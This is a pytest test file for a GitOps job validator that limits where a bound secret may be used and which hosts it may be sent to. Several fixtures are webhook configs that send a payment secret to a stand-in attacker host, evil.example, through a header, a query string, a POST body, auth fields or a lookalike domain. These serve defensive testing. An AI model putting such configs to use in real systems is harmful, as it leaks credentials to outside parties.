"""Where a secret may be used: judged by the file's folder and by the host that each reference is sent to."""

import pytest

from chronos_gitops.jobs.origins.origin import OriginPattern
from chronos_gitops.jobs.problem import Problem, is_error
from chronos_gitops.jobs.secrets.bindings import Bindings, SecretBinding
from chronos_gitops.jobs.validation.validate import validate_file

ORIGINS = ("https://api.bank.example", "https://api.bank.example:8443", "https://*.pay.example:8443")
BOUND = Bindings({"pay-key": SecretBinding(("jobs/payments",), tuple(map(OriginPattern.parse, ORIGINS)))})
HERE = "jobs/payments/daily-payout.yaml"


def problems(webhook: str, path: str = HERE) -> list[Problem]:
    text = f"name: daily-payout\nschedule: '@daily'\nenabled: true\nwebhook:\n{webhook}"
    return [found for found in validate_file(path, text.encode(), bindings=BOUND).problems if is_error(found)]


GOOD, EVIL = "https://api.bank.example/", "https://evil.example/"
HEADER = "  headers: {X-Key: '${secret:pay-key}'}\n"
OAUTH = "  auth: {type: oauth2, token_url: '%s', client_id: payouts, client_secret: '${secret:pay-key}'}\n"


@pytest.mark.parametrize(
    ("webhook", "host"),
    [
        (f"  url: {GOOD}\n{HEADER}", None),
        (f"  url: https://eu.pay.example:8443/\n{HEADER}", None),
        ("  url: https://api.bank.example:8443/?k=${secret:pay-key}\n", None),
        (f"  url: {EVIL}\n  headers: {{X-Key: '${{secret:other-key}}'}}\n", None),
        (f"  url: {EVIL}\n" + OAUTH % GOOD, "https://evil.example"),
        ("  url: ${secret:pay-key}\n", None),  # known when the request is made
        (f"  url: https://{{{{.JobName}}}}.pay.example:8443/\n{HEADER}", None),
        (f"  url: {EVIL}\n{HEADER}", "https://evil.example"),
        ("  url: https://evil.example/?k=${secret:pay-key}\n", "https://evil.example"),
        (f"  url: {EVIL}\n  method: POST\n  body: 'k=${{secret:pay-key}}'\n", "https://evil.example"),
        (f"  url: {EVIL}\n  auth: {{type: bearer, token: '${{secret:pay-key}}'}}\n", "https://evil.example"),
        (f"  url: {EVIL}\n  auth: {{type: hmac, secret: '${{secret:pay-key}}'}}\n", "https://evil.example"),
        (f"  url: {GOOD}\n" + OAUTH % "https://evil.example/token", "https://evil.example"),
        (f"  url: https://pay.example/\n{HEADER}", "https://pay.example"),
        (f"  url: https://api.bank.example.evil.example/\n{HEADER}", "https://api.bank.example.evil.example"),
    ],
)
def test_a_bound_secret_goes_to_its_hosts_only(webhook: str, host: str | None) -> None:
    found = problems(webhook)
    expected = [] if host is None else [("secret-binding", f'the secret "pay-key" may not be sent to {host}')]
    assert [(one.rule, one.message) for one in found] == expected


@pytest.mark.parametrize("path", ["jobs/platform/daily-payout.yaml", "jobs/daily-payout.yaml", "jobs/payments.yaml"])
def test_a_bound_secret_is_used_in_its_folders_only(path: str) -> None:
    [found] = problems(f"  url: {GOOD}\n{HEADER}", path)
    assert found.message == f'the secret "pay-key" may not be used by {path}'
    assert (found.line, found.column) == (6, 21)
    assert "secrets.bind" in found.hint


def test_an_author_cannot_wave_it_through() -> None:
    found = problems(f"  url: {EVIL}\n{HEADER.rstrip()} # chronos: ignore[secret-binding] we need it\n")
    assert "secret-binding" in {one.rule for one in found}


def test_an_unbound_secret_is_refused_where_the_settings_say_so() -> None:
    text = f"name: daily-payout\nschedule: '@daily'\nenabled: true\nwebhook:\n  url: {GOOD}\n{HEADER}"
    refused = [
        one for one in validate_file(HERE, text.encode(), bindings=Bindings({}, "refuse")).problems if is_error(one)
    ]
    assert [(one.rule, one.message) for one in refused] == [
        ("secret-unbound", 'the secret "pay-key" is bound to nothing, and this runner refuses such secrets')
    ]
    lines = 'secrets.bind.pay-key = { folders = ["jobs/payments"], origins = ["https://api.bank.example"] }'
    assert lines in refused[0].hint
    assert validate_file(HERE, text.encode(), bindings=Bindings()).job is not None
